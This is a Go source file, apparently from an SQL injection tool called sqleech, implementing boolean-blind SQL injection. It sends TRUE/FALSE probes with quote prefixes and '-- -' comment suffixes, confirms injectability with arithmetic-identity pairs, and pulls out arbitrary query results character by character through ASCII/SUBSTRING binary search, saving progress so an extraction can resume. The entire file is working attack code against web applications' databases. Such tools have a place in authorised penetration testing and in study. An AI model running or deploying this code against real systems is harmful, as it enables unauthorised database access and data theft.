// Package boolean implements boolean-blind SQL injection detection and
// data extraction. It works by injecting TRUE/FALSE conditions and
// comparing the server response against a known baseline. Data is
// extracted character-by-character using binary search over ASCII values.
package boolean

import (
	"context"
	"fmt"
	"time"

	"github.com/0x6d61/sqleech/internal/dbms"
	"github.com/0x6d61/sqleech/internal/detector"
	"github.com/0x6d61/sqleech/internal/engine"
	"github.com/0x6d61/sqleech/internal/inference"
	"github.com/0x6d61/sqleech/internal/payload"
	"github.com/0x6d61/sqleech/internal/session"
	"github.com/0x6d61/sqleech/internal/technique"
	"github.com/0x6d61/sqleech/internal/transport"
)

const (
	asciiLow  = 32
	asciiHigh = 126
)

// boundaryPair represents a prefix/suffix combination to try during detection.
type boundaryPair struct {
	prefix string
	suffix string
}

// defaultBoundaries lists the prefix/suffix pairs tried during detection,
// derived from payload.CommonBoundaries() by keeping only the classic
// "-- -" line-comment suffix; the other registered suffixes are dialect-
// specific and are better tried once a DBMS has actually been fingerprinted.
var defaultBoundaries = commentBoundaries()

func commentBoundaries() []boundaryPair {
	var pairs []boundaryPair
	for _, b := range payload.CommonBoundaries() {
		if b.Suffix == "-- -" {
			pairs = append(pairs, boundaryPair{prefix: b.Prefix, suffix: b.Suffix})
		}
	}
	return pairs
}

// algebraicPair is an algebraic-identity probe pair used to confirm a
// candidate boundary: cond is an expression that is always true and notCond
// one that is always false, independent of the injected parameter's real
// value. Unlike the 1=1/1=2 boundary probes, a server that merely fuzzy-
// matches arithmetic patterns in the query string (rather than actually
// evaluating the injected SQL) will disagree with at least one of these.
type algebraicPair struct {
	cond, notCond string
}

// confirmPairs are the five algebraic-identity pairs used in the CONFIRM
// phase. When the observed base latency exceeds slowTargetLatency, only the
// first three are used and the agreement threshold relaxes accordingly.
var confirmPairs = []algebraicPair{
	{"2*3*8=6*8", "2*3*8=6*9"},
	{"3*2>(1*5)", "3*3<(2*4)"},
	{"3*2*0>=0", "3*3*9<(2*4)"},
	{"5*4=20", "5*4=21"},
	{"3*2*1=6", "3*2*0=6"},
}

const (
	slowTargetLatency  = 8 * time.Second
	confirmThresholdHi = 0.80
	confirmThresholdLo = 0.70
)

// BooleanBlind implements boolean-blind SQL injection technique.
type BooleanBlind struct {
	diffEngine *detector.DiffEngine
	oracle     *detector.ResponseOracle

	// ForcedStrategy, when non-nil, skips the operator-probe phase and uses
	// this search strategy for every extraction (the CLI's fetch_using
	// option per the configuration surface).
	ForcedStrategy *inference.Strategy
}

// New creates a BooleanBlind with the default DiffEngine and response oracle.
func New() *BooleanBlind {
	diffEngine := detector.NewDiffEngine()
	return &BooleanBlind{
		diffEngine: diffEngine,
		oracle:     detector.NewResponseOracle(diffEngine),
	}
}

// SetTextOnly switches the underlying DiffEngine to compare rendered text
// instead of raw markup, per the --text-only option.
func (b *BooleanBlind) SetTextOnly(textOnly bool) {
	b.diffEngine.TextOnly = textOnly
}

// SetOracleOverrides configures the response oracle's user-supplied
// decision rules, per the --code/--string/--not-string options. An empty
// code and empty strings restore the default status/length/similarity
// decision chain.
func (b *BooleanBlind) SetOracleOverrides(code int, matchString, notMatchString string) {
	b.oracle.Code = code
	b.oracle.MatchString = matchString
	b.oracle.NotMatchString = notMatchString
}

// Name returns "boolean-blind".
func (b *BooleanBlind) Name() string {
	return "boolean-blind"
}

// Priority returns 2 (after error-based=1, before time-based=3).
func (b *BooleanBlind) Priority() int {
	return 2
}

// Detect tests whether a parameter is injectable using boolean-blind logic.
//
// Algorithm:
//  1. Try each boundary pair (prefix/suffix).
//  2. For each pair, send a TRUE probe and a FALSE probe.
//  3. TRUE response should match baseline per the response oracle.
//  4. FALSE response should differ from baseline per the response oracle.
//  5. CONFIRM: run the five algebraic-identity probe pairs and require
//     80% agreement with their expected truth values (70% over three
//     pairs if the target is slow to respond).
//  6. Return the first boundary pair that passes CONFIRM.
func (b *BooleanBlind) Detect(ctx context.Context, req *technique.InjectionRequest) (*technique.DetectionResult, error) {
	result := &technique.DetectionResult{
		Injectable: false,
		Technique:  b.Name(),
	}

	for _, bp := range defaultBoundaries {
		trueCondition, falseCondition := probeConditions(req.Parameter.Type, bp.prefix)

		// Phase 1: initial TRUE/FALSE check.
		trueMatch, _, oracleCase, err := b.sendBooleanProbe(ctx, req, trueCondition, bp.prefix, bp.suffix)
		if err != nil {
			continue
		}
		if !trueMatch {
			continue
		}

		falseMatch, _, _, err := b.sendBooleanProbe(ctx, req, falseCondition, bp.prefix, bp.suffix)
		if err != nil {
			continue
		}
		if falseMatch {
			// FALSE also matches baseline -- cannot distinguish.
			continue
		}

		// Phase 2 (CONFIRM): run the algebraic-identity probe pairs and
		// require the agreement ratio to clear the threshold. A target
		// that merely echoes back whatever looks like a satisfied WHERE
		// clause, rather than one whose backend actually evaluates the
		// injected arithmetic, disagrees with enough pairs to fail here.
		agreement, baseLatency, err := b.confirmAgreement(ctx, req, bp.prefix, bp.suffix)
		if err != nil {
			continue
		}

		threshold := confirmThresholdHi
		pairsUsed := len(confirmPairs)
		if baseLatency > slowTargetLatency {
			threshold = confirmThresholdLo
			pairsUsed = 3
		}
		if agreement < threshold {
			continue
		}

		// All rounds passed -- injectable.
		result.Injectable = true
		result.Confidence = agreement
		result.Evidence = fmt.Sprintf(
			"TRUE condition (%s) matches baseline; FALSE condition (%s) differs; CONFIRM agreement %.0f%% over %d pairs",
			trueCondition, falseCondition, agreement*100, pairsUsed)
		result.Case = oracleCase.String()
		result.MatchString = trueCondition
		result.NotMatchString = falseCondition
		result.Attack01 = req.Parameter.Value + bp.prefix + " AND " + trueCondition + " " + bp.suffix
		result.Payload = payload.NewBuilder().
			WithPrefix(bp.prefix).
			WithCore(" AND " + trueCondition).
			WithSuffix(bp.suffix).
			WithTechnique(b.Name()).
			WithDBMS(req.DBMS).
			Build()
		return result, nil
	}

	return result, nil
}

// Extract retrieves the value of a SQL expression.
//
// Algorithm (per the inference engine's step sequence):
//  1. Determine a working boundary (prefix/suffix).
//  2. Probe the four comparison-operator strategies and select the
//     highest-priority one the oracle agrees with (or use ForcedStrategy).
//  3. Discover the result length via binary search on LENGTH((query)).
//  4. For each position, extract the character under the selected strategy.
func (b *BooleanBlind) Extract(ctx context.Context, req *technique.ExtractionRequest) (*technique.ExtractionResult, error) {
	d := findDBMS(req.DBMS)
	if d == nil {
		return nil, fmt.Errorf("unsupported or unknown DBMS: %q", req.DBMS)
	}

	// Step 1 (Resume): a prior run against the same endpoint/parameter/
	// query/technique may have already extracted part -- or all -- of this
	// value. A full match means this call performs zero transport calls.
	storageKey := session.StorageKey(req.Endpoint, req.Parameter.Name, req.Query, b.Name())
	resumed, err := fetchResume(ctx, req.Store, storageKey)
	if err != nil {
		return nil, err
	}
	if resumed != nil && resumed.Length > 0 && len(resumed.Value) >= resumed.Length {
		return &technique.ExtractionResult{Value: resumed.Value, Partial: false, Requests: 0}, nil
	}

	// Determine working boundary (prefix/suffix) by running a quick detection pass.
	prefix, suffix, err := b.findWorkingBoundary(ctx, &req.InjectionRequest)
	if err != nil {
		return nil, fmt.Errorf("finding working boundary: %w", err)
	}

	oracle := b.oracleFor(&req.InjectionRequest, prefix, suffix)

	strategy, err := inference.ProbeOperator(ctx, oracle, b.ForcedStrategy)
	if err != nil {
		return nil, fmt.Errorf("selecting extraction strategy: %w", err)
	}

	totalRequests := 0

	// Step: Extract result length, unless a previous run already persisted
	// it for this key.
	length := 0
	if resumed != nil && resumed.Length > 0 {
		length = resumed.Length
	} else {
		lengthGT := func(k int) string {
			return fmt.Sprintf("%s>%d", d.Length(fmt.Sprintf("(%s)", req.Query)), k)
		}
		var reqs int
		length, reqs, err = inference.ExtractLength(ctx, oracle, lengthGT, 1<<24)
		if err != nil {
			return nil, fmt.Errorf("extracting length: %w", err)
		}
		totalRequests += reqs
		persistResume(ctx, req.Store, storageKey, "", length)
	}

	if length == 0 {
		return &technique.ExtractionResult{Value: "", Requests: totalRequests}, nil
	}

	// Step: Extract each character under the selected strategy, resuming
	// from any previously persisted prefix.
	var result []byte
	if resumed != nil {
		result = []byte(resumed.Value)
	}
	for pos := len(result) + 1; pos <= length; pos++ {
		eq := charEqualityCondition(d, req.Query, pos)
		ch, reqs, err := inference.ExtractChar(ctx, strategy, oracle, eq, asciiLow, asciiHigh)
		totalRequests += reqs
		if err != nil {
			persistResume(ctx, req.Store, storageKey, string(result), length)
			return &technique.ExtractionResult{
				Value:    string(result),
				Partial:  true,
				Requests: totalRequests,
			}, fmt.Errorf("extracting char at pos %d: %w", pos, err)
		}
		if ch == 0 {
			persistResume(ctx, req.Store, storageKey, string(result), length)
			return &technique.ExtractionResult{
				Value:    string(result),
				Partial:  true,
				Requests: totalRequests,
			}, fmt.Errorf("extraction failed at position %d", pos)
		}
		result = append(result, ch)
		persistResume(ctx, req.Store, storageKey, string(result), length)
	}

	return &technique.ExtractionResult{
		Value:    string(result),
		Partial:  false,
		Requests: totalRequests,
	}, nil
}

// fetchResume looks up a previously persisted StorageRecord for key. A nil
// store (no --resume session attached) is treated as no prior state.
func fetchResume(ctx context.Context, store session.Store, key string) (*session.StorageRecord, error) {
	if store == nil {
		return nil, nil
	}
	rec, err := store.FetchStorage(ctx, key)
	if err != nil {
		return nil, fmt.Errorf("fetching resume state: %w", err)
	}
	return rec, nil
}

// persistResume saves extraction progress under key. Persist errors are
// swallowed: failing to checkpoint progress must not abort an otherwise
// successful extraction.
func persistResume(ctx context.Context, store session.Store, key, value string, length int) {
	if store == nil {
		return
	}
	_ = store.UpsertStorage(ctx, &session.StorageRecord{Type: key, Value: value, Length: length})
}

// oracleFor adapts sendBooleanProbe into an inference.Oracle closed over a
// fixed injection request and boundary.
func (b *BooleanBlind) oracleFor(req *technique.InjectionRequest, prefix, suffix string) inference.Oracle {
	return func(ctx context.Context, condition string) (bool, error) {
		match, _, _, err := b.sendBooleanProbe(ctx, req, condition, prefix, suffix)
		return match, err
	}
}

// charEqualityCondition builds the equality-shaped condition
// "ASCII(SUBSTRING((query),pos,1))=<literal>" that every inference strategy
// specializes by swapping the "=" operator.
func charEqualityCondition(d dbms.DBMS, query string, pos int) inference.EqualityCondition {
	subExpr := d.Substring(fmt.Sprintf("(%s)", query), pos, 1)
	asciiExpr := d.ASCII(subExpr)
	return func(literal string) string {
		return fmt.Sprintf("%s=%s", asciiExpr, literal)
	}
}

// confirmAgreement runs the algebraic-identity probe pairs against the
// candidate boundary and returns the fraction of observations that agreed
// with their expected truth value, along with the slowest observed
// round-trip latency (used to decide whether to relax to three pairs and
// the lower threshold for slow targets).
func (b *BooleanBlind) confirmAgreement(ctx context.Context, req *technique.InjectionRequest, prefix, suffix string) (float64, time.Duration, error) {
	// First pass over all five pairs to measure latency before deciding
	// how many pairs the threshold calculation should consider.
	var maxLatency time.Duration
	agreed, total := 0, 0

	for _, p := range confirmPairs {
		trueMatch, trueResp, _, err := b.sendBooleanProbe(ctx, req, p.cond, prefix, suffix)
		if err != nil {
			return 0, 0, err
		}
		if trueResp.Duration > maxLatency {
			maxLatency = trueResp.Duration
		}
		if trueMatch {
			agreed++
		}
		total++

		falseMatch, falseResp, _, err := b.sendBooleanProbe(ctx, req, p.notCond, prefix, suffix)
		if err != nil {
			return 0, 0, err
		}
		if falseResp.Duration > maxLatency {
			maxLatency = falseResp.Duration
		}
		if !falseMatch {
			agreed++
		}
		total++

		// Once latency reveals a slow target, three pairs (six
		// observations) are sufficient -- stop early rather than
		// spending the remaining probes against an already-established
		// reduced threshold.
		if maxLatency > slowTargetLatency && total >= 6 {
			break
		}
	}

	return float64(agreed) / float64(total), maxLatency, nil
}

// sendBooleanProbe sends a probe with the given condition and returns whether
// the response matches the baseline (TRUE) or differs (FALSE), along with
// the oracle decision rule that produced the verdict.
func (b *BooleanBlind) sendBooleanProbe(ctx context.Context, req *technique.InjectionRequest, condition string, prefix, suffix string) (bool, *transport.Response, detector.OracleCase, error) {
	payloadStr := req.Parameter.Value + prefix + " AND " + condition + " " + suffix
	probeReq := buildProbeRequest(req.Target, req.Parameter, payloadStr, req.SkipURLEncoding)

	resp, err := req.Client.Do(ctx, probeReq)
	if err != nil {
		return false, nil, detector.CaseNone, err
	}

	match, oracleCase := b.oracle.IsMatch(req.Baseline, resp)
	return match, resp, oracleCase, nil
}

// findWorkingBoundary iterates through boundary pairs and returns the first
// one that can distinguish TRUE from FALSE conditions.
func (b *BooleanBlind) findWorkingBoundary(ctx context.Context, req *technique.InjectionRequest) (string, string, error) {
	for _, bp := range defaultBoundaries {
		trueCondition, falseCondition := probeConditions(req.Parameter.Type, bp.prefix)

		trueMatch, _, _, err := b.sendBooleanProbe(ctx, req, trueCondition, bp.prefix, bp.suffix)
		if err != nil || !trueMatch {
			continue
		}

		falseMatch, _, _, err := b.sendBooleanProbe(ctx, req, falseCondition, bp.prefix, bp.suffix)
		if err != nil || falseMatch {
			continue
		}

		return bp.prefix, bp.suffix, nil
	}

	return "", "-- -", fmt.Errorf("no working boundary found")
}

// probeConditions returns the TRUE and FALSE conditions appropriate for the
// given parameter type and prefix.
func probeConditions(paramType engine.ParameterType, prefix string) (string, string) {
	if prefix == "'" || prefix == "')" {
		return "'1'='1", "'1'='2"
	}
	switch paramType {
	case engine.TypeInteger, engine.TypeFloat:
		return "1=1", "1=2"
	default:
		// TypeString: the default boundary detection already tries with quote prefix.
		return "1=1", "1=2"
	}
}

// buildProbeRequest creates a transport.Request with the target parameter
// replaced by the given payload string, via engine.BuildProbeRequest. When
// skipEncoding is set the payload is appended without percent-encoding.
func buildProbeRequest(target *engine.ScanTarget, param *engine.Parameter, payloadStr string, skipEncoding bool) *transport.Request {
	build := engine.BuildProbeRequest
	if skipEncoding {
		build = engine.BuildProbeRequestRaw
	}
	p := build(target, param, payloadStr)
	return &transport.Request{
		Method:      p.Method,
		URL:         p.URL,
		Body:        p.Body,
		ContentType: p.ContentType,
		Headers:     p.Headers,
		Cookies:     p.Cookies,
	}
}

// findDBMS returns a DBMS implementation by name. If the name is empty or
// unknown, it falls back to MySQL as a reasonable default.
func findDBMS(name string) dbms.DBMS {
	d := dbms.Registry(name)
	if d == nil {
		// Fallback to MySQL syntax, which is common.
		d = dbms.Registry("MySQL")
	}
	return d
}
